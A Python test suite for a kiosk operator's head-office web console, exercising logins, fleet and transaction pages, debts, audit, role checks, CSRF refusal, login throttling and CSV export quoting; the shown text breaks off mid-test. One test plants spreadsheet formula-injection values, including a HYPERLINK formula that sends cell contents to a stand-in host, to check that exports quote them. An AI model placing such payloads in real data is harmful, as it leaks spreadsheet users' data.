"""Head office's staff console in a real headless browser (Debian's chromium and its driver)
against the real server process, in German and in English: login, the fleet (a kiosk whose
note validator jammed, one never connected, one revoked), a kiosk's page, alarms, a
transaction as a clerk reads it, a key with its debt as set and as collected since, the
reports and the audit; a debt typed as people type money; and the refusals: a wrong password,
a form without its CSRF token, an operator doing an admin's change, pages that do not exist:
each a page in the reader's language, nothing changed, audited. Forms only for the roles that
may use them. Screenshots (console-<lang>-<page>.png) go to $CONSOLE_SHOTS (or the test's
folder)."""

from __future__ import annotations

import json
import os
import re
import secrets
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import requests
from selenium import webdriver
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.expected_conditions import staleness_of
from selenium.webdriver.support.select import Select
from selenium.webdriver.support.wait import WebDriverWait
from sqlalchemy import insert, select, update

from kiosk.adapters.head_office import Syncer
from kiosk.domain.money import Money
from sync.store.tables import audit, kiosks, open_db, ref_debts, ref_keys, staff, token_digest
from tests.conftest import ROOT, HeadOffice
from tests.test_cctalk_kiosk import cash_rig

NOW = datetime.now(UTC)
PASSWORDS = {"anna": "anna-operator-pw", "ada": "ada-admin-password", "otto": "otto-auditor-pw"}
ROLES = {"anna": "operator", "ada": "admin", "otto": "auditor"}
#: what each language's pages say, where the browser test looks for it
SAYS = {
    "de": {"wrong": "Name oder Passwort ist falsch.", "fault": "Techniker nötig",
           "never": "noch nie verbunden", "unknown": "unbekannt", "revoked": "Zugang entzogen",
           "service": "in Betrieb", "nothing": "nichts", "backlog": "5 Einträge seit",
           "not_reported": "nicht gemeldet", "open": "offen", "printed": "Gedruckt.",
           "written": "auf den Schlüssel geschrieben", "set_debt": "Forderung festsetzen",
           "no_page": "Diese Seite gibt es nicht.", "admin_only": "nur Administrator",
           "token": "Sicherheitsmerkmal", "not_amount": "ist kein Betrag in EUR",
           "recovered": "Forderung getilgt", "fleet": "Automaten",
           "note_fault": "Störung: Banknotenprüfer",
           "amount": "25,00", "still_open": "Noch offen"},
    "en": {"wrong": "Name or password is wrong.", "fault": "needs a technician",
           "never": "never connected", "unknown": "unknown", "revoked": "revoked",
           "service": "in service", "nothing": "nothing", "backlog": "5 entries since",
           "not_reported": "not reported", "open": "open", "printed": "Printed.",
           "written": "Written to the key at", "set_debt": "Set the debt",
           "no_page": "There is no such page.", "admin_only": "admin only",
           "token": "security token", "not_amount": "is not an amount in EUR",
           "recovered": "debt recovered", "fleet": "Fleet", "note_fault": "fault: note validator",
           "amount": "25.00", "still_open": "Still open"},
}
pytestmark = pytest.mark.skipif(
    not Path("/usr/bin/chromedriver").exists(),
    reason="chromium-driver is installed by the README's command",
)


def money(minor: int, lang: str) -> str:
    """An amount as the console writes it in `lang` (spaces plain, as read from a page)."""
    whole, cents = divmod(minor, 100)
    return f"{whole},{cents:02d} €" if lang == "de" else f"€{whole}.{cents:02d}"


def plain(text: str) -> str:
    """A page's text with its no-break spaces as plain ones (the amounts carry them)."""
    return text.replace("\xa0", " ").replace("\u202f", " ")


def open_browser(lang: str) -> webdriver.Chrome:
    """Headless Chromium whose Accept-Language prefers `lang` (the login page's language)."""
    opts = webdriver.ChromeOptions()
    opts.binary_location = "/usr/bin/chromium"
    accept = "de-DE,de" if lang == "de" else "en-GB,en"
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--window-size=1280,900",
                "--disable-dev-shm-usage", f"--lang={accept.split(',')[0]}"):  # fmt: skip
        opts.add_argument(arg)
    opts.add_experimental_option("prefs", {"intl.accept_languages": accept})
    driver = webdriver.Chrome(options=opts, service=Service("/usr/bin/chromedriver"))
    driver.implicitly_wait(2)
    return driver


def staff_add(db: str, name: str) -> None:
    done = subprocess.run([sys.executable, "-m", "sync.admin", "--db", db, "staff", "add", name,
                           "--role", ROLES[name]], input=PASSWORDS[name] + "\n",
                          capture_output=True, text=True, cwd=ROOT, timeout=60)  # fmt: skip
    assert done.returncode == 0, done.stderr


def in_db(db: str, *statements: Any) -> list[Any]:
    """Statements run on head office's database in one transaction: each one's rows (none for
    a change)."""
    engine = open_db(db)
    try:
        with engine.begin() as conn:
            out = []
            for s in statements:
                got = conn.execute(s)
                out.append(got.all() if got.returns_rows else None)
            return out
    finally:
        engine.dispose()


def fleet_with_a_jam(office: HeadOffice, tmp_path: Path) -> str:
    """A kiosk on its simulated devices: a customer pays 20.00 in a note, then the note
    validator jams on the next note; the kiosk's journal is synced to head office. Returns the
    payment's transaction id."""
    with cash_rig(tmp_path) as rig:
        rig.start_payment(Money(5000, "EUR"))
        assert rig.notes.insert("EU0020A")
        rig.wait(lambda: rig.view().paid == Money(2000, "EUR"), "the 20.00 note credited")
        rig.notes.jam_next_stack = True
        assert rig.notes.insert("EU0010A")
        rig.wait(lambda: "notes" in {str(d) for d in rig.view().faults}, "the jam")
        txid = rig.view().txid
        assert txid is not None
        journal = rig.kiosk.journal
        assert Syncer(journal, office.client()).round(NOW).backlog == 0
    return txid


TOP_UP = "OTHER-01-261207-1"


def a_top_up_with_fee_and_debt(office: HeadOffice, tmp_path: Path, at: datetime) -> str:
    """OTHER-01's journal, synced: K1 (account 4711) paid 5.00 in coins (2.00, 2.00, 1.00) and
    15.00 in notes (10.00, 5.00); of the 20.00 a fee of 1.50 (19 % VAT), 3.00 debt repaid and
    15.50 written to the key; the receipt printed. Then the printer ran out of paper and was
    refilled, and the cash box was emptied (20.00). Returns the transaction id."""
    from kiosk.domain.events import Kind, Record
    from kiosk.ledger.journal import Journal

    def eur(minor: int) -> Money:
        return Money(minor, "EUR")

    j = Journal(tmp_path / "other.sqlite", "OTHER-01")
    tx, key = TOP_UP, "K1"
    j.append([Record(Kind.TX_OPENED, tx, key, None, {"method": "cash", "lang": "de",
                                                     "target": 2000, "contract_account": "4711"}),
              *(Record(Kind.CASH_IN, tx, key, eur(v), {"medium": m}) for v, m in
                ((200, "coin"), (200, "coin"), (100, "coin"), (1000, "note"), (500, "note"))),
              Record(Kind.SPLIT, tx, key, eur(1550), {"paid": 2000, "fee": 150, "fee_net": 126,
                                                      "fee_vat": 24, "vat_bp": 1900,
                                                      "debt": 300, "credit": 1550}),
              Record(Kind.KEY_WRITTEN, tx, key, eur(1550), {"credit_after": 1550, "write_no": 1}),
              Record(Kind.TX_CLOSED, tx, key, None, {"outcome": "completed", "paid": 2000,
                                                     "fee": 150, "debt": 300, "credit": 1550,
                                                     "receipt": "wanted"}),
              Record(Kind.RECEIPT, tx, None, None, {"printed": True})], at)  # fmt: skip
    j.append([Record(Kind.FAULT, None, None, None, {"device": "printer", "code": 3,
                                                    "text": "paper out"})],
             at + timedelta(seconds=1))  # fmt: skip
    j.append([Record(Kind.FAULT, None, None, None, {"device": "printer", "cleared": True})],
             at + timedelta(seconds=2))  # fmt: skip
    counts = {"coin:200": 2, "coin:100": 1, "note:1000": 1, "note:500": 1}
    j.append([Record(Kind.CASHBOX_EMPTIED, None, None, eur(2000),
                     {"counts": counts, "test_money": 0, "who": "tech-7"})],
             at + timedelta(seconds=3))  # fmt: skip
    assert Syncer(j, office.client("OTHER-01")).round(at).backlog == 0
    return tx


def kiosk_row(**values: Any) -> Any:
    """A kiosk registered by hand (as an older head office did), with what it is said to be."""
    return insert(kiosks).values(token_sha256=token_digest(secrets.token_urlsafe(16)), **values)


def login(browser: webdriver.Chrome, office: HeadOffice, name: str, password: str) -> None:
    browser.get(f"{office.url}/console/login")
    browser.find_element(By.ID, "name").send_keys(name)
    browser.find_element(By.ID, "password").send_keys(password)
    submit(browser, By.ID, "login")


def gone(old: Any) -> Any:
    """A wait's condition: the element `old` is no longer in the page. Chromedriver answers
    "Node with given id does not belong to the document" instead of a stale element while the
    new page replaces the old one: that is gone too."""

    def check(_: Any) -> bool:
        try:
            return bool(staleness_of(old)(_))
        except WebDriverException as err:
            if "does not belong to the document" in str(err):
                return True
            raise

    return check


def submit(browser: webdriver.Chrome, by: str, what: str) -> None:
    """Click a form's button and wait for the page the post leads to (the old one gone)."""
    old = browser.find_element(By.TAG_NAME, "html")
    browser.find_element(by, what).click()
    WebDriverWait(browser, 10).until(gone(old))


def session_post(browser: webdriver.Chrome, url: str, path: str, data: dict[str, str]) -> Any:
    """A form posted with the browser's session and the page's CSRF token (as a page edited
    by hand would post it)."""
    cookie = browser.get_cookie("ho_session")
    assert cookie is not None
    csrf = browser.find_element(By.CSS_SELECTOR, "input[name=csrf]").get_attribute("value")
    return requests.post(
        f"{url}{path}", data={**data, "csrf": csrf or ""}, timeout=10,
        cookies={"ho_session": cookie["value"]}, allow_redirects=False,
    )  # fmt: skip


def shot(browser: webdriver.Chrome, tmp_path: Path, name: str) -> Path:
    """The whole page (the window made as tall as it), as console-<name>.png."""
    folder = Path(os.environ.get("CONSOLE_SHOTS") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"console-{name}.png"
    height = browser.execute_script("return document.documentElement.scrollHeight")
    browser.set_window_size(1280, max(900, min(int(height) + 140, 6000)))
    try:
        assert browser.save_screenshot(str(path)) and path.stat().st_size > 10_000
    finally:
        browser.set_window_size(1280, 900)
    return path


def text_of(browser: webdriver.Chrome, by: str, what: str) -> str:
    return plain(browser.find_element(by, what).text)


def audited(db: str) -> list[tuple[str, str, str]]:
    return [(r.who, r.action, r.detail) for r in in_db(db, select(audit).order_by(audit.c.id))[0]]


def audit_rows(db: str, action: str) -> list[Any]:
    return in_db(db, select(audit).where(audit.c.action == action).order_by(audit.c.id))[0]


def key_and_debt(db: str) -> tuple[str, int | None]:
    status, debt = in_db(db, select(ref_keys.c.status).where(ref_keys.c.serial == "K1"),
                         select(ref_debts.c.amount))  # fmt: skip
    return status[0][0], (debt[0][0] if debt else None)


@pytest.mark.parametrize("lang", ["de", "en"])
@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_the_console_in_a_browser(office: HeadOffice, tmp_path: Path, lang: str) -> None:
    says = SAYS[lang]
    for name in PASSWORDS:
        staff_add(office.db, name)
    if lang == "en":  # anna chooses English herself below; the others have it already
        in_db(office.db, update(staff).where(staff.c.name != "anna").values(lang="en"))
    office.admin("key", "K1", "--status", "active", "--account", "4711")
    jam = fleet_with_a_jam(office, tmp_path)
    in_db(office.db,
          kiosk_row(kiosk_id="NEVER-01", registered=NOW.isoformat(), token_since=NOW.isoformat()),
          kiosk_row(kiosk_id="GONE-01", registered=NOW.isoformat(), last_contact=NOW.isoformat(),
                    revoked=NOW.isoformat()))  # fmt: skip

    browser = open_browser(lang)
    try:
        # a wrong password: the login page in the browser's language
        login(browser, office, "anna", "not her password")
        assert browser.find_element(By.ID, "error").text == says["wrong"]
        assert browser.find_element(By.TAG_NAME, "html").get_attribute("lang") == lang
        assert ("anna", "login_failed") in [(w, a) for w, a, _ in audited(office.db)]
        shot(browser, tmp_path, f"{lang}-login")

        # the admin sets K1's debt, typed as people type money in their language
        login(browser, office, "ada", PASSWORDS["ada"])
        browser.get(f"{office.url}/console/key?q=K1")
        if lang == "en":  # a German amount on an English form: refused as a page, unchanged
            browser.find_element(By.CSS_SELECTOR, "input[name=amount]").send_keys("25,00")
            submit(browser, By.CSS_SELECTOR, "button.set-debt")
            assert says["not_amount"] in text_of(browser, By.ID, "error")
            assert key_and_debt(office.db) == ("active", None)
            browser.find_element(By.ID, "back").click()
        browser.find_element(By.CSS_SELECTOR, "input[name=amount]").send_keys(says["amount"])
        submit(browser, By.CSS_SELECTOR, "button.set-debt")
        assert key_and_debt(office.db) == ("active", 2500)
        assert text_of(browser, By.CSS_SELECTOR, "#debt-4711 .debt-set") == money(2500, lang)
        debt_set = audit_rows(office.db, "debt")[-1]
        assert (debt_set.who, debt_set.via, debt_set.target) == ("ada", "console", "account 4711")
        assert debt_set.before is None  # no debt before
        assert json.loads(debt_set.after) == {"contract_account": "4711", "amount": 2500,
                                              "currency": "EUR"}  # fmt: skip
        browser.find_element(By.ID, "logout").click()

        # K1 tops up at OTHER-01 after that: 3.00 of the debt repaid there
        top_up = a_top_up_with_fee_and_debt(office, tmp_path, datetime.now(UTC))
        other = office.client("OTHER-01")  # then its uploads fail: it says what it holds
        other.tell(5, (NOW - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
        other.reference()
        in_db(office.db, update(kiosks).where(kiosks.c.kiosk_id == "OTHER-01")
              .values(version="1.4.2", journal_schema="0009"))  # what it said, as an old one

        login(browser, office, "anna", PASSWORDS["anna"])
        if lang == "en":  # she switches the console to English: kept with her, audited
            submit(browser, By.ID, "lang-en")
            assert in_db(office.db, select(staff.c.lang).where(staff.c.name == "anna"))[0] == [
                ("en",)]
            switched = audit_rows(office.db, "lang")[-1]
            assert switched.who == "anna" and switched.target == "staff anna"
            assert (json.loads(switched.before)["lang"], json.loads(switched.after)["lang"]) == (
                "de", "en")
        assert browser.find_element(By.TAG_NAME, "h1").text == says["fleet"]
        row = text_of(browser, By.ID, "kiosk-DEMO-01")
        assert says["fault"] in row and "jammed" in row and money(2000, lang) in row
        assert says["nothing"] in row  # all delivered
        never = text_of(browser, By.ID, "kiosk-NEVER-01")
        assert says["never"] in never and says["service"] not in never
        assert says["unknown"] in never  # no receipt ever delivered: paper unknown
        assert says["revoked"] in text_of(browser, By.ID, "kiosk-GONE-01")
        assert says["backlog"] in text_of(browser, By.ID, "kiosk-OTHER-01")
        shot(browser, tmp_path, f"{lang}-fleet")

        # a kiosk's page, from the fleet: its faults, cash box emptyings, versions
        submit(browser, By.LINK_TEXT, "OTHER-01")
        faults = text_of(browser, By.ID, "faults")
        assert "paper out" in faults and says["open"] not in faults.split("\n")[1]
        assert money(2000, lang) in text_of(browser, By.ID, "emptyings")
        assert "tech-7" in text_of(browser, By.ID, "emptyings")
        assert text_of(browser, By.ID, "version") == "1.4.2"
        shot(browser, tmp_path, f"{lang}-kiosk")
        browser.get(f"{office.url}/console/kiosk/DEMO-01")
        assert text_of(browser, By.ID, "version") == says["not_reported"]
        assert says["open"] in text_of(browser, By.ID, "faults")

        browser.get(f"{office.url}/console/alarms")
        alarms = text_of(browser, By.ID, "alarms")
        assert says["note_fault"] in alarms and "jammed" in alarms and says["never"] in alarms
        shot(browser, tmp_path, f"{lang}-alarms")

        # the top-up as a clerk reads it: paid by coins and notes, fee, debt, credit written
        browser.get(f"{office.url}/console/tx?id={top_up}")
        paid = text_of(browser, By.ID, "paid")
        assert money(500, lang) in paid and money(1500, lang) in paid
        assert money(2000, lang) in text_of(browser, By.ID, "paid-total")
        assert text_of(browser, By.CSS_SELECTOR, "#fee td.num") == money(150, lang)
        assert text_of(browser, By.CSS_SELECTOR, "#debt td.num") == money(300, lang)
        assert text_of(browser, By.CSS_SELECTOR, "#credit td.num") == money(1550, lang)
        credit = text_of(browser, By.ID, "credit-state")
        assert says["written"] in credit and "OTHER-01" in credit and money(1550, lang) in credit
        assert text_of(browser, By.ID, "receipt") == says["printed"]
        raw = browser.find_element(By.ID, "entries")
        assert not raw.is_displayed()  # the journal entries folded away
        shot(browser, tmp_path, f"{lang}-transaction")
        browser.find_element(By.CSS_SELECTOR, "#raw summary").click()
        WebDriverWait(browser, 5).until(lambda _b: raw.is_displayed())
        assert "split" in raw.text and "key_written" in raw.text
        # the jammed payment: 20.00 in a note, the fault against it, still open
        browser.get(f"{office.url}/console/tx?id={jam}")
        assert money(2000, lang) in text_of(browser, By.ID, "paid-total")
        assert "jammed" in text_of(browser, By.ID, "steps")

        # the key: the debt as set, what the automats collected since, what is still open
        browser.get(f"{office.url}/console/key?q=K1")
        debt = text_of(browser, By.ID, "debt-4711")
        assert text_of(browser, By.CSS_SELECTOR, "#debt-4711 .debt-set") == money(2500, lang)
        assert money(300, lang) in text_of(browser, By.CSS_SELECTOR, "#debt-4711 .debt-collected")
        assert text_of(browser, By.CSS_SELECTOR, "#debt-4711 .debt-open") == money(2200, lang)
        assert says["still_open"] in debt
        history = text_of(browser, By.ID, "debt-history-4711")
        assert says["recovered"] in history and top_up in history
        assert browser.find_elements(By.CSS_SELECTOR, "form.key-form")  # an operator's form
        assert not browser.find_elements(By.CSS_SELECTOR, "form.debt-form")  # not an admin's
        shot(browser, tmp_path, f"{lang}-key")

        # the operator blocks the key: changed and audited with the row before and after
        Select(browser.find_element(By.CSS_SELECTOR, "#keys select[name=status]")
               ).select_by_value("blocked")  # fmt: skip
        Select(browser.find_element(By.CSS_SELECTOR, "#keys select[name=reason]")
               ).select_by_value("lost")  # fmt: skip
        browser.find_element(By.CSS_SELECTOR, "#keys input[name=note]").send_keys("phoned in, Mon")
        submit(browser, By.CSS_SELECTOR, "#keys button")
        assert key_and_debt(office.db) == ("blocked", 2500)
        blocked = audit_rows(office.db, "key")[-1]
        assert blocked.who == "anna"
        assert "active -> blocked (lost; phoned in, Mon)" in blocked.detail
        assert (json.loads(blocked.before)["status"], json.loads(blocked.after)["status"]) == (
            "active", "blocked")
        assert json.loads(blocked.after)["reason"] == "lost" and blocked.target == "key K1"
        # a reason that is not a code (a page edited by hand): refused as a page, unchanged
        refused = session_post(browser, office.url, "/console/key",
                               {"serial": "K1", "status": "active", "reason": "verloren"})
        assert refused.status_code == 422 and "lost, stolen" in refused.text
        assert refused.headers["content-type"].startswith("text/html")
        assert key_and_debt(office.db) == ("blocked", 2500)
        # ... may not set a debt (no form: posted by hand): refused as a page, audited
        denied = session_post(browser, office.url, "/console/debt",
                              {"account": "4711", "amount": "1"})  # fmt: skip
        assert denied.status_code == 403 and says["admin_only"] in denied.text
        assert key_and_debt(office.db) == ("blocked", 2500)
        assert any(w == "anna" and a == "refused" and "debt" in d
                   for w, a, d in audited(office.db))  # fmt: skip

        # a form posted without the session's CSRF token (another site's page posting it)
        cookie = browser.get_cookie("ho_session")
        assert cookie is not None and cookie["httpOnly"] and cookie.get("sameSite") == "Strict"
        forged = requests.post(f"{office.url}/console/key", timeout=10,
                               data={"serial": "K1", "status": "active", "reason": ""},
                               cookies={"ho_session": cookie["value"]})  # fmt: skip
        assert forged.status_code == 403 and says["token"] in forged.text
        assert key_and_debt(office.db) == ("blocked", 2500)
        assert any(a == "refused" and "CSRF" in d for _w, a, d in audited(office.db))

        browser.get(f"{office.url}/console/reports")
        assert browser.find_elements(By.CSS_SELECTOR, "#per-day rect")
        table = text_of(browser, By.ID, "money")
        assert money(2000, lang) in table and money(500, lang) in table  # the note; the coins
        shot(browser, tmp_path, f"{lang}-reports")

        # a page that does not exist: a page in her language with a way back
        browser.get(f"{office.url}/console/no-such-page")
        assert text_of(browser, By.ID, "error") == says["no_page"]
        shot(browser, tmp_path, f"{lang}-error")
        browser.find_element(By.ID, "back").click()
        WebDriverWait(browser, 5).until(lambda b: b.current_url.endswith("/console/"))
        browser.get(f"{office.url}/console/audit?who=anna")
        entries = text_of(browser, By.ID, "audit")
        assert "blocked" in entries and "ada" not in entries
        shot(browser, tmp_path, f"{lang}-audit")

        # an auditor reads: no form to change a key or a debt
        browser.find_element(By.ID, "logout").click()
        login(browser, office, "otto", PASSWORDS["otto"])
        browser.get(f"{office.url}/console/key?q=K1")
        assert text_of(browser, By.CSS_SELECTOR, "#debt-4711 .debt-open") == money(2200, lang)
        assert not browser.find_elements(By.CSS_SELECTOR, "#keys form, form.debt-form")
    finally:
        browser.quit()



@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_pages_without_a_session_send_to_the_login(office: HeadOffice) -> None:
    for path in ("/console/", "/console/alarms", "/console/tx?id=X", "/console/reports.csv"):
        got = requests.get(f"{office.url}{path}", allow_redirects=False, timeout=10)
        assert got.status_code == 303 and got.headers["location"] == "/console/login", path
    refused = requests.post(f"{office.url}/console/debt", timeout=10,
                            data={"account": "1", "amount": "1.00", "csrf": "x"})  # fmt: skip
    assert refused.status_code == 401


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_guessing_passwords_is_slowed_down_and_audited(office: HeadOffice) -> None:
    staff_add(office.db, "otto")
    url = f"{office.url}/console/login"
    for n in range(10):  # the login page in the language the browser prefers
        lang = "en-GB,en;q=0.9,de;q=0.5" if n % 2 else "de-DE,de;q=0.9,en;q=0.8"
        wrong = requests.post(url, data={"name": "otto", "password": "guess"}, timeout=10,
                              headers={"Accept-Language": lang})  # fmt: skip
        assert wrong.status_code == 401
        assert SAYS["en" if n % 2 else "de"]["wrong"] in wrong.text
    stopped = requests.post(url, data={"name": "otto", "password": PASSWORDS["otto"]}, timeout=10)
    assert stopped.status_code == 429 and int(stopped.headers["Retry-After"]) > 0
    assert stopped.headers["content-type"].startswith("text/html")
    assert "Zu viele fehlgeschlagene Anmeldungen" in stopped.text  # German unless asked
    assert [a for _w, a, _d in audited(office.db)].count("login_failed") == 10


def console_session(office: HeadOffice, name: str) -> requests.Session:
    """A person of the staff logged in over HTTP (no browser: the pages' text is enough)."""
    staff_add(office.db, name)
    s = requests.Session()
    got = s.post(f"{office.url}/console/login", timeout=30,
                 data={"name": name, "password": PASSWORDS[name]})  # fmt: skip
    assert got.status_code == 200 and got.url == f"{office.url}/console/", got.text
    return s


def stored_directly(db: str, rows: list[dict[str, Any]], **kiosk: Any) -> None:
    """Entries written into head office's database by hand (as a release before the time
    check took them), and what DEMO-01 said of its backlog."""
    from sync.store.tables import entries, kiosks

    engine = open_db(db)
    try:
        with engine.begin() as conn:
            conn.execute(entries.insert(), [
                {"txid": None, "key": None, "amount": None, "currency": None, "data": "{}",
                 "prev_hash": "0" * 64, "hash": "0" * 64, **r} for r in rows])  # fmt: skip
            if kiosk:
                conn.execute(kiosks.update().where(kiosks.c.kiosk_id == "DEMO-01").values(**kiosk))
    finally:
        engine.dispose()


END, START = "9999-12-31T23:59:59.999999Z", "0001-01-01T00:00:00.000000Z"


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_times_at_the_ends_of_the_calendar_break_no_page_report_or_export(
    office: HeadOffice,
) -> None:
    """9999-12-31 (a kiosk's clock gone wrong, before head office refused it) and 0001-01-01
    stored: every page, the CSV, the report and the export still answer, showing them."""
    opened = json.dumps({"method": "cash", "contract_account": "4711"})
    stored_directly(office.db, [
        {"kiosk_id": "DEMO-01", "seq": 1, "ts": END, "kind": "tx_opened", "txid": "T-END",
         "key": "K1", "data": opened},
        {"kiosk_id": "DEMO-01", "seq": 2, "ts": END, "kind": "cash_in", "txid": "T-END",
         "key": "K1", "amount": 1000, "currency": "EUR", "data": '{"medium": "note"}'},
        {"kiosk_id": "DEMO-01", "seq": 3, "ts": END, "kind": "tx_closed", "txid": "T-END",
         "key": "K1", "data": '{"outcome": "completed"}'},
        {"kiosk_id": "DEMO-01", "seq": 4, "ts": END, "kind": "fault",
         "data": '{"device": "coin", "text": "jammed"}'},
        {"kiosk_id": "OTHER-01", "seq": 1, "ts": START, "kind": "cash_in", "txid": "T-START",
         "key": "K1", "amount": 200, "currency": "EUR", "data": '{"medium": "coin"}'},
    ], backlog=5, backlog_since=END)  # fmt: skip
    s = console_session(office, "otto")
    for path in ("/console/", "/console/alarms", "/console/reports", "/console/reports.csv",
                 "/console/key?q=K1", "/console/tx?id=T-END", "/console/tx?id=T-START"):
        got = s.get(f"{office.url}{path}", timeout=30)
        assert got.status_code == 200, (path, got.text[-300:])
        assert any(day in got.text for day in ("9999-12-31", "31.12.9999", "0001-01-01")), path
    report = office.admin("report")
    assert "9999-12-31" in report and "0001-01-01" in report
    export = office.admin("export", "payments", "--since", "2026-01-01", "--until", "9999-12-31")
    assert "T-END" in export and "9999-12-31 23:59:59" in export and "T-START" not in export
    early = office.admin("export", "payments", "--since", "0001-01-01", "--format", "json")
    assert [p["txid"] for p in json.loads(early)] == ["T-START"]


def backlog_said(db: str) -> tuple[int | None, str | None]:
    from sync.store.tables import kiosks

    engine = open_db(db)
    try:
        with engine.connect() as conn:
            row = conn.execute(select(kiosks.c.backlog, kiosks.c.backlog_since)
                               .where(kiosks.c.kiosk_id == "OTHER-01")).one()  # fmt: skip
            return row.backlog, row.backlog_since
    finally:
        engine.dispose()


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_a_backlog_time_that_is_not_a_journal_time_is_ignored(office: HeadOffice) -> None:
    """What a kiosk says of its oldest undelivered entry is stored only when it is a real UTC
    time in the journal's format; anything else is ignored and the fleet page stays up."""
    s = console_session(office, "otto")
    other = office.client("OTHER-01")
    for bad in ("x" * 32, "2026-11-21 09:00:00.000000+00:00", "2026-02-30T09:00:00.000000Z",
                "2026-11-21T25:00:00.000000Z", "2026-11-21T09:00:00Z", END,
                "1999-12-31T23:00:00.000000Z", "2026-11-21T09:00:00.000000Z<b>"):  # fmt: skip
        other.tell(5, bad)
        other.reference()
        assert backlog_said(office.db) == (5, None), bad
        page = s.get(f"{office.url}/console/", timeout=30)
        said = " ".join(re.sub(r"<[^>]+>", " ", page.text).split())
        assert page.status_code == 200 and "5 Einträge seit nie" in said, bad
    good = (NOW - timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    other.tell(5, good)
    other.reference()
    assert backlog_said(office.db) == (5, good)
    assert s.get(f"{office.url}/console/", timeout=30).status_code == 200


def test_a_cell_that_could_start_a_formula_is_quoted_and_numbers_stay() -> None:
    from sync.billing.sheet import cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert cell(f"{start}1+2") == f"'{start}1+2"
        assert cell(f"{start}1+2", number=True) == f"'{start}1+2"  # not a number: quoted too
    assert cell("K-1") == "K-1" and cell(None) is None and cell(-1500) == -1500
    assert cell("-12.50", number=True) == "-12.50" and cell("-12.50") == "'-12.50"
    import csv
    import io

    from sync.billing.sheet import write_csv

    buf = io.StringIO()
    write_csv(buf, ["txid", "amount"], [["\rK2", -1500], ['a,"b"', 7]], numbers=["amount"])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["txid", "amount"], ["'\rK2", "-1500"], ['a,"b"', "7"]
    ]  # fmt: skip


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_hostile_text_from_a_kiosk_starts_no_formula_in_any_csv(
    office: HeadOffice, tmp_path: Path
) -> None:
    """A kiosk id, transaction id, key serial and contract account that a spreadsheet would
    run as formulas reach the payments export (the admin tool's and the billing system's) and
    the console's download quoted; the amounts stay numbers, a negative one too."""
    from kiosk.domain.events import Kind, Record
    from kiosk.ledger.journal import Journal
    from sync.billing.sheet import FORMULA_START
    from sync.wire.client import SyncClient

    kiosk = '=HYPERLINK("http://x.example/?"&A1)'
    token = _registered_before_ids_were_checked(office, kiosk)
    j = Journal(tmp_path / "journal.sqlite", kiosk)
    tx, key, account = "+SUM(1,2)", "@K1", "-4711+1"
    day1 = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
    j.append([Record(Kind.TX_OPENED, tx, key, None, {"method": "card",
                                                     "contract_account": account}),
              Record(Kind.CARD_APPROVED, tx, key, Money(1500, "EUR"), {"receipt_no": 1}),
              Record(Kind.TX_CLOSED, tx, key, None, {"outcome": "completed"})], day1)  # fmt: skip
    j.append([Record(Kind.TX_OPENED, "\tT2", "\rK2", None, {"method": "cash"}),
              Record(Kind.CASH_IN, "\tT2", "\rK2", Money(500, "EUR"), {"medium": "coin"}),
              Record(Kind.TX_CLOSED, "\tT2", "\rK2", None, {"outcome": "completed"})],
             day1)  # fmt: skip
    # the next day the card payment is given back: that day's money is negative
    j.append([Record(Kind.CARD_REVERSED, tx, key, Money(1500, "EUR"), {})],
             day1 + timedelta(days=1))  # fmt: skip
    j.append([Record(Kind.CASH_UNATTRIBUTED, None, None, Money(200, "EUR"), {"medium": "coin"})],
             day1 + timedelta(days=1))  # fmt: skip
    client = SyncClient(office.url, token, kiosk, timeout=(1.0, 5.0))
    assert Syncer(j, client).round(day1).backlog == 0

    def checked(text: str, numbers: set[str]) -> list[dict[str, str]]:
        import csv
        import io

        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows
        for row in rows:
            for name, value in row.items():
                if name in numbers:
                    assert re.fullmatch(r"-?\d+", value), (name, value)
                else:
                    assert not value.startswith(FORMULA_START), (name, value)
        return rows

    days = ("--since", "2026-11-21", "--until", "2026-11-22")
    amounts = {f"{a}_minor" for a in ("paid", "fee", "fee_net", "fee_vat", "debt", "credit")}
    paid = checked(office.admin("export", "payments", *days), amounts)
    assert {r["kiosk"] for r in paid} == {"'" + kiosk}
    assert {r["txid"] for r in paid} >= {"'+SUM(1,2)", "'\tT2"}
    assert {r["key"] for r in paid} >= {"'@K1", "'\rK2"}
    assert "'-4711+1" in {r["contract_account"] for r in paid}
    billing = office.admin("token", "billing", "--role", "billing")
    got = requests.get(f"{office.url}/v1/billing/payments", timeout=30,
                       params={"since": "2026-11-21", "until": "2026-11-22"},
                       headers={"Authorization": f"Bearer {billing}"})  # fmt: skip
    assert got.status_code == 200 and checked(got.text, amounts) == paid
    s = console_session(office, "otto")
    money = checked(s.get(f"{office.url}/console/reports.csv", timeout=30).text, {"amount_minor"})
    assert ("2026-11-22", "'" + kiosk, "card", "-1500") in {
        (r["day"], r["kiosk"], r["method"], r["amount_minor"]) for r in money
    }
    assert "'" + kiosk in office.admin("report")


@pytest.mark.parametrize("office_db", ["sqlite"], indirect=True)
def test_failed_logins_and_failed_tokens_are_counted_apart(office: HeadOffice) -> None:
    """Ten wrong console passwords from an address lock out that address's logins, not the
    kiosks behind it; ten unknown tokens lock out unknown tokens, not the staff's login, and
    never a right token."""
    staff_add(office.db, "otto")
    login_url, ref = f"{office.url}/console/login", f"{office.url}/v1/reference"
    right = {"Authorization": f"Bearer {office.tokens['DEMO-01']}"}
    for _ in range(10):
        wrong = requests.post(login_url, data={"name": "otto", "password": "guess"}, timeout=10)
        assert wrong.status_code == 401
    stopped = requests.post(login_url, timeout=10, headers={"Accept-Language": "en"},
